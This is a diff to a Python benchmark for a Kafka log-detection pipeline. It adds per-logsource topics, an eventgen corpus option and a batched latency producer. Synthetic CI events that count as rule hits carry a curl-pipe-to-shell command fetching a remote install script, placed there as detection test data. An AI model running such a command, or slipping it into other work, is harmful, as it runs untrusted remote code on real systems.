@@ -84,19 +84,54 @@ def make_event(kind: str, rng: random.Random, hit: bool, sent: float) -> dict[st
               "message": "$ curl -sSfL https://get.example.net/i.sh | sh" if hit
               else f"Step {rng.randint(1, 40)}/40 : RUN npm ci --{_w(rng)} {_w(rng)}"}
     ev["@timestamp"] = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sent)) + "Z"
-    ev["bench_sent"] = sent
     return ev
 
 
-def corpus(count: int, seed: int = 11, hit_rate: float = 0.02) -> dict[str, list[bytes]]:
+def _slug(ls: dict[str, str]) -> str:
+    return "-".join(v.replace(".", "_") for v in (ls.get("product"), ls.get("category"), ls.get("service")) if v)
+
+
+def builtin_corpus(count: int, seed: int = 11, hit_rate: float = 0.02) -> list[tuple[dict[str, str], dict[str, Any]]]:
     rng = random.Random(seed)
     kinds = list(SOURCES)
-    out: dict[str, list[bytes]] = {k: [] for k in kinds}
-    now = time.time()
+    out = []
     for _ in range(count):
         kind = rng.choice(kinds)
-        out[kind].append(orjson.dumps(make_event(kind, rng, rng.random() < hit_rate, now)))
+        out.append((SOURCES[kind], make_event(kind, rng, rng.random() < hit_rate, time.time())))
     return out
+
+
+def eventgen_corpus(count: int, seed: int = 1) -> list[tuple[dict[str, str], dict[str, Any]]]:
+    """``bench/eventgen.py``'s mixed corpus (21 log sources) plus 5% CI job logs for the project rules."""
+    sys.path.insert(0, str(ROOT))
+    from bench.eventgen import iter_events
+
+    rng = random.Random(seed)
+    out: list[tuple[dict[str, str], dict[str, Any]]] = []
+    for logsource, event in iter_events(count, seed):
+        if rng.random() < 0.05:
+            out.append((SOURCES["ci"], make_event("ci", rng, rng.random() < 0.03, time.time())))
+        else:
+            out.append((logsource.as_dict(), dict(event)))
+    return out[:count]
+
+
+def corpus(count: int, kind: str = "eventgen") -> list[tuple[dict[str, str], dict[str, Any]]]:
+    if kind == "eventgen" and (ROOT / "bench" / "eventgen.py").is_file():
+        return eventgen_corpus(count)
+    return builtin_corpus(count)
+
+
+def by_topic(events: list[tuple[dict[str, str], dict[str, Any]]], prefix: str,
+             sent: float) -> dict[str, list[bytes]]:
+    out: dict[str, list[bytes]] = {}
+    for ls, event in events:
+        out.setdefault(prefix + _slug(ls), []).append(orjson.dumps({**event, "bench_sent": sent}))
+    return out
+
+
+def topic_map(events: list[tuple[dict[str, str], dict[str, Any]]]) -> dict[str, dict[str, str]]:
+    return {_slug(ls): ls for ls, _ in events}
 
 
 def rule_paths() -> list[str]:
@@ -105,10 +140,10 @@ def rule_paths() -> list[str]:
     return paths
 
 
-def settings_for(bootstrap: str, prefix: str, group: str) -> Any:
+def settings_for(bootstrap: str, prefix: str, group: str, topics_ls: dict[str, dict[str, str]]) -> Any:
     from service.config import Settings
 
-    topics = {f"{prefix}{kind}": {"decoder": "json", "logsource": ls} for kind, ls in SOURCES.items()}
+    topics = {f"{prefix}{slug}": {"decoder": "json", "logsource": ls} for slug, ls in topics_ls.items()}
     return Settings(
         kafka={"bootstrap_servers": [bootstrap], "group_id": group, "topics": topics, "max_batch": 5000,
                "max_in_flight_batches": 4, "commit_interval_s": 1.0},
@@ -117,22 +152,22 @@ def settings_for(bootstrap: str, prefix: str, group: str) -> Any:
         stdin={"enabled": False}, http_ingest={"enabled": False})
 
 
-async def preload(bootstrap: str, prefix: str, events: dict[str, list[bytes]]) -> None:
+async def preload(bootstrap: str, events: dict[str, list[bytes]]) -> None:
     from aiokafka import AIOKafkaProducer
 
     producer = AIOKafkaProducer(bootstrap_servers=bootstrap, linger_ms=20, max_batch_size=1 << 20,
                                 compression_type=None, acks=1)
     await producer.start()
     try:
-        for kind, values in events.items():
+        for topic, values in events.items():
             batch = producer.create_batch()
             for value in values:
                 if batch.append(key=None, value=value, timestamp=None) is None:
-                    await (await producer.send_batch(batch, f"{prefix}{kind}", partition=0))
+                    await (await producer.send_batch(batch, topic, partition=0))
                     batch = producer.create_batch()
                     batch.append(key=None, value=value, timestamp=None)
             if batch.record_count():
-                await (await producer.send_batch(batch, f"{prefix}{kind}", partition=0))
+                await (await producer.send_batch(batch, topic, partition=0))
     finally:
         await producer.stop()
 
@@ -213,27 +248,39 @@ async def run_pipeline(settings: Any, until_acked: int | None, data_dir: Path, d
         await router.inner.stop()
 
 
-def producer_main(bootstrap: str, prefix: str, rate: int, seconds: float) -> None:
-    """Child process: send ``rate`` events/s for ``seconds`` (fresh events stamped at send time)."""
+def producer_main(bootstrap: str, prefix: str, rate: int, seconds: float, kind: str) -> None:
+    """Child process: send ``rate`` events/s for ``seconds``, each stamped with its send time.
+
+    Events are encoded once; per tick only the ``bench_sent`` stamp is spliced in and each
+    topic's share goes out as one record batch, so the producer itself keeps the pace.
+    """
     from aiokafka import AIOKafkaProducer
 
+    encoded = [(prefix + _slug(ls), orjson.dumps(event)[:-1]) for ls, event in corpus(20_000, kind)]
+
     async def main() -> None:
-        producer = AIOKafkaProducer(bootstrap_servers=bootstrap, linger_ms=5, acks=1)
+        producer = AIOKafkaProducer(bootstrap_servers=bootstrap, linger_ms=0, acks=1)
         await producer.start()
-        rng = random.Random(5)
-        kinds = list(SOURCES)
-        tick = 0.01
+        tick = 0.02
         per_tick = max(1, int(rate * tick))
         began = time.perf_counter()
         n = 0
         while time.perf_counter() - began < seconds:
+            stamp = b',"bench_sent":' + repr(time.time()).encode() + b"}"
+            batches: dict[str, Any] = {}
             for _ in range(per_tick):
-                kind = kinds[n % len(kinds)]
-                value = orjson.dumps(make_event(kind, rng, rng.random() < 0.02, time.time()))
-                await producer.send(f"{prefix}{kind}", value)
+                topic, head = encoded[n % len(encoded)]
+                batch = batches.get(topic)
+                if batch is None:
+                    batch = batches[topic] = producer.create_batch()
+                if batch.append(key=None, value=head + stamp, timestamp=None) is None:
+                    await producer.send_batch(batch, topic, partition=0)
+                    batch = batches[topic] = producer.create_batch()
+                    batch.append(key=None, value=head + stamp, timestamp=None)
                 n += 1
-            target = began + n / rate
-            delay = target - time.perf_counter()
+            # concurrently: aiokafka queues one batch per partition and waits for the previous one
+            await asyncio.gather(*(producer.send_batch(b, t, partition=0) for t, b in batches.items()))
+            delay = began + n / rate - time.perf_counter()
             if delay > 0:
                 await asyncio.sleep(delay)
         await producer.flush()
@@ -247,27 +294,29 @@ async def bench(args: argparse.Namespace, bootstrap: str, workdir: Path) -> dict
     from aiokafka.admin import AIOKafkaAdminClient, NewTopic
 
     run = f"b{os.getpid()}x{int(time.time())}-"
+    events = corpus(args.events, args.corpus)
+    topics = topic_map(events)
     admin = AIOKafkaAdminClient(bootstrap_servers=bootstrap)
     await admin.start()
-    await admin.create_topics([NewTopic(f"{p}{k}", 1, 1) for p in (run, run + "lat-") for k in SOURCES])
+    await admin.create_topics([NewTopic(f"{p}{slug}", 1, 1) for p in (run, run + "lat-") for slug in topics])
     await admin.close()
 
-    events = corpus(args.events)
     began = time.perf_counter()
-    await preload(bootstrap, run, events)
+    await preload(bootstrap, by_topic(events, run, time.time()))
     preload_s = time.perf_counter() - began
 
-    raw = await raw_consume(bootstrap, [f"{run}{k}" for k in SOURCES], args.events)
-    elapsed, router, acked = await run_pipeline(settings_for(bootstrap, run, f"pipe-{run}"), args.events,
+    raw = await raw_consume(bootstrap, [f"{run}{slug}" for slug in topics], args.events)
+    elapsed, router, acked = await run_pipeline(settings_for(bootstrap, run, f"pipe-{run}", topics), args.events,
                                                 workdir / "pipe")
     pipeline = acked / elapsed
 
-    latency_settings = settings_for(bootstrap, run + "lat-", f"lat-{run}")
+    latency_settings = settings_for(bootstrap, run + "lat-", f"lat-{run}", topics)
     children: list[subprocess.Popen[str]] = []
 
     def start_producer() -> None:  # once partitions are assigned: group joining is not latency
         children.append(subprocess.Popen([sys.executable, __file__, "--produce", bootstrap, run + "lat-",
-                                          str(args.rate), str(args.seconds)], stdout=subprocess.PIPE, text=True))
+                                          str(args.rate), str(args.seconds), args.corpus],
+                                         stdout=subprocess.PIPE, text=True))
 
     try:
         _, lat_router, lat_acked = await run_pipeline(latency_settings, None, workdir / "lat",
@@ -280,6 +329,8 @@ async def bench(args: argparse.Namespace, bootstrap: str, workdir: Path) -> dict
     p50 = lat[len(lat) // 2] * 1000 if lat else None
     return {
         "events": args.events,
+        "corpus": args.corpus,
+        "topics": len(topics),
         "preload_s": round(preload_s, 2),
         "raw_consume_per_s": round(raw),
         "pipeline_per_s": round(pipeline),
@@ -297,7 +348,7 @@ async def bench(args: argparse.Namespace, bootstrap: str, workdir: Path) -> dict
 
 def main() -> int:
     if len(sys.argv) > 1 and sys.argv[1] == "--produce":
-        producer_main(sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5]))
+        producer_main(sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5]), sys.argv[6])
         return 0
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("--json", action="store_true", help="print one JSON object")
@@ -305,6 +356,9 @@ def main() -> int:
     parser.add_argument("--rate", type=int, default=10_000, help="events/s for the latency phase")
     parser.add_argument("--seconds", type=float, default=10.0, help="length of the latency phase")
     parser.add_argument("--bootstrap", help="use this broker instead of starting one")
+    parser.add_argument("--corpus", choices=("eventgen", "builtin"), default="eventgen",
+                        help="eventgen: bench/eventgen.py's 21 log sources plus CI job logs; "
+                             "builtin: seven CI/cloud/linux/web sources")
     args = parser.parse_args()
     import logging
 
